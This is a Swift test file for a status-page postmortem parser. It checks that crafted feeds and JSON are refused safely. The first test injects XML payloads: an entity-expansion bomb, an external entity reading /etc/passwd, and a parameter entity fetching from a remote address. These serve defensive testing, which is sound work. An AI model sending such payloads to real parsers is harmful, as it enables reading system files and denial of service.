import TestSupport
import Testing

@testable import Postmortem

/// Documents made to hurt: each is read or refused, and nothing outside it is touched.
@Suite struct HostileStatusPageTests {
  static let feeds = ["statuspage-atom/history.atom", "status-feed/azure.rss", "aws-feed/all.rss"]

  @Test(arguments: feeds) func documentTypesOfTheirOwnAreRefused(_ path: String) throws {
    let feed = Fixtures.bytes("exports/\(path)")
    let root = try #require(feed.firstIndex(of: UInt8(ascii: "\n")))
    for declaration in [
      "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>",
      "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
      "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://192.0.2.1/p\"> %p;]>",
    ] {
      let bytes = Array(feed[...root]) + Array(declaration.utf8) + Array(feed[(root + 1)...])
      let document = ExportDocument(name: "x", bytes: bytes)
      let format = try #require(ExportFormats.recognise(document))
      let error = #expect(throws: PostmortemError.self) { try format.read(document) }
      #expect(error?.code == "PM042")
    }
  }

  @Test func deepAndCutJSONIsRefusedWithItsPlace() {
    let deep =
      "{\"incident_updates\":" + String(repeating: "[", count: 100_000)
    let cut = "[{\"external_desc\":\"x\",\"begin\":\"2026-03-04T08:00:00Z\",\"updates\":[{\"te"
    for text in [deep, cut] {
      let document = ExportDocument(name: "x.json", bytes: Array(text.utf8))
      let format = ExportFormats.recognise(document)
      #expect(format != nil)
      let error = #expect(throws: PostmortemError.self) { try format?.read(document) }
      #expect(error?.code == "PM040")
      #expect(error?.place?.line == 1)
    }
  }

  @Test func timesThatCannotBeAreCountedAndLeftOut() throws {
    let text = """
      {"name":"x","impact":"minor","updates":[
      {"date":"2026-13-45T99:00:00Z","status":"investigating","content":"a"},
      {"date":99999999999999999999,"status":"investigating","content":"b"},
      {"date":null,"status":"investigating","content":"c"},
      {"date":"2026-03-04T08:00:00Z","status":"resolved","content":"d"}]}
      """
    let document = ExportDocument(name: "x", bytes: Array(text.utf8))
    let content = try #require(ExportFormats.recognise(document)).read(document)
    #expect(content.incidents.map(\.updates.count) == [1])
    #expect(content.diagnostics.map(\.code) == ["unread-updates"])
    #expect(content.diagnostics.first?.count == 3)
  }

  @Test func valuesOfTheWrongKindAreNoTrap() throws {
    let values = ["null", "1", "-1.5e300", "true", "\"x\"", "[]", "{}", "[[]]", "[null]"]
    for (path, _) in StatusPageExpectations.all where path.hasSuffix(".json") {
      let document = ExportDocument(name: path, bytes: Fixtures.bytes("exports/\(path)"))
      guard let format = ExportFormats.recognise(document) else { continue }
      let node = try JSONReader.readSequence(document.json, name: path)[0]
      for range in HostileStatusPageTests.values(in: node) {
        let value = values[range.lowerBound % values.count]
        let bytes =
          document.bytes[..<range.lowerBound] + Array(value.utf8)
          + document.bytes[range.upperBound...]
        let broken = ExportDocument(name: path, bytes: Array(bytes))
        EvidenceCheck.check(try format.read(broken), in: broken.bytes)
      }
    }
  }

  /// The places of all values below a node.
  private static func values(in node: JSONNode) -> [Range<Int>] {
    switch node.value {
    case .object(let members):
      [node.bytes] + members.flatMap { values(in: $0.value) }
    case .array(let elements): [node.bytes] + elements.flatMap { values(in: $0) }
    default: [node.bytes]
    }
  }

  /// JSONTestSuite's files are read or refused by every format, recognised or not.
  @Test(.enabled("needs the shared data") { SharedData.isPresent })
  func oddJSONIsNoTrap() {
    for file in SharedData.files(in: "naughty/json/test_parsing") {
      let document = ExportDocument(name: file, bytes: SharedData.bytes(file))
      for format in ExportFormats.all where format.name != "markdown-postmortem" {
        _ = try? format.read(document)
      }
    }
  }
}
